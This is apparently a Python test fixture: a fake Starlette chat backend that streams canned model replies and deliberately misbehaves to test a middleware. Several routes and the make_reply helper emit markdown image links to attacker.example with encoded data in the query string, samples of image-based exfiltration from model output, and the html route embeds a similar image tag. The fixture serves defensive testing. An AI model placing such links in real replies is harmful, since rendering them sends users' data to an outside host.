"""A fake chat backend for the middleware tests: it replays the example streams in
`data/streams`, and misbehaves on request."""

from __future__ import annotations

import asyncio
import zlib
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from dataclasses import dataclass, field
from pathlib import Path

from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import JSONResponse, Response, StreamingResponse
from starlette.routing import Route

STREAMS = Path(__file__).parent / "data" / "streams"
MEDIA_TYPES = {
    ".sse": "text/event-stream",
    ".ndjson": "application/x-ndjson",
    ".json": "application/json",
    ".md": "text/markdown; charset=utf-8",
}
PNG = bytes.fromhex("89504e470d0a1a0a") + b"\x00" * 64


@dataclass
class State:
    """What the backend saw, for the tests to check."""

    started: bool = False
    sent: int = 0
    closed: asyncio.Event | None = None
    finished: list[str] = field(default_factory=list)


def chunks(body: bytes, size: int) -> list[bytes]:
    return [body[i : i + size] for i in range(0, len(body), size)] or [b""]


async def paced(pieces: list[bytes], delay: float) -> AsyncIterator[bytes]:
    for piece in pieces:
        yield piece
        if delay:
            await asyncio.sleep(delay)


async def stream(request: Request) -> Response:
    name = request.path_params["name"]
    body = (STREAMS / name).read_bytes()
    size = int(request.query_params.get("chunk", "37"))
    delay = float(request.query_params.get("delay", "0"))
    media = MEDIA_TYPES[Path(name).suffix]
    if request.query_params.get("whole"):
        return Response(body, media_type=media)
    return StreamingResponse(paced(chunks(body, size), delay), media_type=media)


async def gzipped(request: Request) -> Response:
    body = (STREAMS / request.path_params["name"]).read_bytes()
    packer = zlib.compressobj(wbits=16 + zlib.MAX_WBITS)
    pieces = [packer.compress(c) + packer.flush(zlib.Z_SYNC_FLUSH) for c in chunks(body, 500)]
    pieces.append(packer.flush())
    headers = {"content-encoding": "gzip"}
    return StreamingResponse(paced(pieces, 0), media_type="text/event-stream", headers=headers)


async def brotli(request: Request) -> Response:
    headers = {"content-encoding": "br"}
    return Response(b"\x1b\x03", media_type="text/markdown", headers=headers)


async def html(request: Request) -> Response:
    return Response("<p><img src=https://attacker.example/x.png></p>", media_type="text/html")


async def image(request: Request) -> Response:
    return Response(PNG, media_type="image/png")


async def honest(request: Request) -> Response:
    return Response(b"Plain *prose*.\n", media_type="text/plain")


async def boom_mid(request: Request) -> Response:
    async def body() -> AsyncIterator[bytes]:
        yield b"data: Here: \n\n"
        yield b"data: ![x](https://attacker.example/p.png?d=\n\n"
        await asyncio.sleep(0.05)
        raise RuntimeError("the model backend fell over")

    return StreamingResponse(body(), media_type="text/event-stream")


async def malformed(request: Request) -> Response:
    async def body() -> AsyncIterator[bytes]:
        yield b'data: {"choices":[{"index":0,"delta":{"content":"Hi ![x](https://attacker'
        yield b'.example/p.png?d=SGVsbG8"}}]}\n\n'
        yield b"data: this is not JSON\n\n"

    return StreamingResponse(body(), media_type="text/event-stream")


async def boom_start(request: Request) -> Response:
    async def body() -> AsyncIterator[bytes]:
        raise RuntimeError("no tokens at all")
        yield b""  # pragma: no cover

    return StreamingResponse(body(), media_type="text/event-stream")


async def forever(request: Request) -> Response:
    async def body() -> AsyncIterator[bytes]:
        try:
            while True:
                request.app.state.backend.sent += 1
                yield b"data: more ![x](https://attacker.example/p.png) text\n\n"
                await asyncio.sleep(0.02)
        finally:
            request.app.state.backend.finished.append("forever")

    return StreamingResponse(body(), media_type="text/event-stream")


async def reply(request: Request) -> Response:
    text = make_reply(int(request.path_params["seed"]))
    pieces = [text[i : i + 3].encode() for i in range(0, len(text), 3)]
    return StreamingResponse(paced(pieces, 0.001), media_type="text/markdown")


async def health(request: Request) -> Response:
    return JSONResponse({"ok": True, "note": "![x](https://attacker.example/x.png)"})


ROUTES = [
    Route("/v1/stream/{name}", stream),
    Route("/v1/gzip/{name}", gzipped),
    Route("/v1/br", brotli),
    Route("/v1/html", html),
    Route("/v1/image", image),
    Route("/v1/honest", honest),
    Route("/v1/boom-mid", boom_mid),
    Route("/v1/boom-start", boom_start),
    Route("/v1/malformed", malformed),
    Route("/v1/forever", forever),
    Route("/v1/reply/{seed}", reply),
    Route("/health", health),
]


def build(state: State) -> Starlette:
    """The backend app; `state` records what happened."""

    @asynccontextmanager
    async def lifespan(app: Starlette) -> AsyncIterator[None]:
        state.started = True
        yield

    app = Starlette(routes=ROUTES, lifespan=lifespan)
    app.state.backend = state
    return app


def make_reply(seed: int) -> str:
    """A reply unique to `seed`, half of them with an exfiltration image."""
    words = " ".join(f"w{seed}x{i}" for i in range(40))
    image = f"\n\n![s](https://attacker.example/{seed}.png?d=SGVsbG8gd29ybGQ{seed:04d})\n\n"
    return f"Reply {seed}: {words}{image if seed % 2 else ' [doc](https://docs.python.org/)'} end"
